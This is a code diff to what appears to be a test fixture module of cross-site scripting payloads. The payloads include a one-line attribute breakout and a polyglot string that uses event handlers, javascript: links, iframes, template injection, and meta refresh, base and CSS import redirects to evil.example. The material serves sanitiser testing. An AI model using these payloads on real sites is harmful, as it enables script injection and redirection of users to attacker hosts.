@@ -1,8 +1,9 @@
 /** Texts that are harmless to read and harmful to run. */
 
-/** One line that breaks out of any context: an attribute, a title, a script, a comment, a template. */
+/** A short attack that ends an attribute and a tag. */
 export const scriptLine = `"'><img src=x onerror=hacked()>`;
 
+/** Breaks out of any context: an attribute, a title, a text area, a script, a comment, a template. */
 export const scriptText = `"'></title></textarea></script><!--<script>hacked()</script>--><img src=x onerror="hacked()"><svg onload=hacked()></svg><iframe srcdoc="<script>parent.hacked()</script>"></iframe><a href="javascript:hacked()" onclick=hacked()>link</a><meta http-equiv=refresh content="0;url=https://evil.example/"><base href="https://evil.example/"><style>@import "https://evil.example/x.css"</style>\${hacked()}{{constructor.constructor('hacked()')()}}\u2028</Script >`;
 
 /** Gets past filters that only know the usual spelling. For fields that keep some markup. */
